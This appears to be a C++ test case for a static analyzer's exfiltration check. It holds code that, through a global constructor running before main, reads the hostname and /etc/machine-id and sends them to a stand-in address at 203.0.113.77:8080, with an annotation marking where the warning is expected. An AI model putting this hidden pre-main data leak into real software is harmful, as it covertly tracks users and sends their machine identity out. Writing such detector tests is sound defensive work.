/* C++: what tells hosts apart is gathered by classes of one interface, and posted before main. */
#include <arpa/inet.h>
#include <fstream>
#include <memory>
#include <netinet/in.h>
#include <string>
#include <sys/socket.h>
#include <sys/utsname.h>
#include <unistd.h>
#include <vector>

namespace {

class Fact {
  public:
    virtual ~Fact() {}
    virtual std::string tell() const = 0;
};

class Name : public Fact {
  public:
    std::string tell() const override {
        char name[256] = "";
        gethostname(name, sizeof name - 1);
        return name;
    }
};

class Machine : public Fact {
  public:
    std::string tell() const override {
        std::ifstream file("/etc/machine-id");
        std::string id;
        std::getline(file, id);
        return id;
    }
};

class Version : public Fact {
  public:
    std::string tell() const override {
        return "2.1";
    }
};

std::string join(const std::vector<std::shared_ptr<Fact>> &facts) {
    std::string text;
    for (const auto &fact : facts)
        text += fact->tell() + "|";
    return text;
}

void post(const std::string &text) {
    sockaddr_in peer{};
    peer.sin_family = AF_INET;
    peer.sin_port = htons(8080);
    peer.sin_addr.s_addr = inet_addr("203.0.113.77");
    int out = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(out, reinterpret_cast<sockaddr *>(&peer), sizeof peer) == 0)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/identity-to-network]}}
        send(out, text.data(), text.size(), 0);
    close(out);
}

struct Start {
    Start() {
        post(join({std::shared_ptr<Fact>(new Name), std::shared_ptr<Fact>(new Machine)}));
    }
} bad_start;

} // namespace

void good_version() {
    post(join({std::shared_ptr<Fact>(new Version)}));
}
